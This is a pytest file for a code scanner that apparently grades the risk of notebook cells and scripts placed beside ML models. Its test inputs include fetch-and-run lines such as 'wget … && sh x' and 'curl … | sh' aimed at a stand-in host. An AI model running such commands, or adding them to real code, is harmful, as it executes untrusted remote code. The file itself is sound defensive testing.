"""How bad code beside a model is depends on who runs it, and when."""

import json

import pytest

from harness.inspecting import inspect_bytes
from pratique.core.finding import Severity

MODEL = "from torch import nn\n\nclass Net(nn.Module):\n    def forward(self, x):\n        "
SCRIPT = "import os, subprocess\n\ndef act(x, cmd):\n    "


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("!pip install -q transformers", Severity.LOW),
        ("!wget https://example.com/model.bin", Severity.LOW),
        ("!wget http://192.0.2.1/x && sh x", Severity.CRITICAL),
        ("!./canary", Severity.HIGH),
    ],
)
def test_cells_may_install_and_fetch(command: str, severity: Severity) -> None:
    cell = {"cell_type": "code", "source": [command]}
    assert worst(json.dumps({"nbformat": 4, "cells": [cell]})) is severity


def worst(source: str) -> Severity:
    findings = inspect_bytes(source.encode()).findings
    return max((f.severity for f in findings), default=Severity.INFO)


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        (SCRIPT + "subprocess.run(['sox', x])\n", Severity.LOW),
        (SCRIPT + "subprocess.run(cmd)\n", Severity.LOW),
        (SCRIPT + "subprocess.run(cmd, shell=True)\n", Severity.MEDIUM),
        (SCRIPT + "os.system(cmd)\n", Severity.MEDIUM),
        (SCRIPT + "os.system('git rev-parse HEAD')\n", Severity.LOW),
        (f"import subprocess\n{MODEL}subprocess.run(['sox', x])\n", Severity.MEDIUM),
        ("import subprocess\nsubprocess.run(['sox', 'x'])\n", Severity.HIGH),
        (SCRIPT + "os.system('curl http://192.0.2.1/x | sh')\n", Severity.CRITICAL),
        ("from setuptools import setup\nexec(open('v.py').read())\nsetup()\n", Severity.LOW),
        ("exec(open('v.py').read())\n", Severity.MEDIUM),
        ("import argparse\n\ndef main(p):\n    p.add_argument('--x', type=eval)\n", Severity.LOW),
        ("import httpx\nLIMIT = httpx.Timeout(5)\n", Severity.INFO),
        ("import requests\nSESSION = requests.Session()\n", Severity.LOW),
    ],
)
def test_severity_follows_who_runs_the_code(source: str, severity: Severity) -> None:
    assert worst(source) is severity
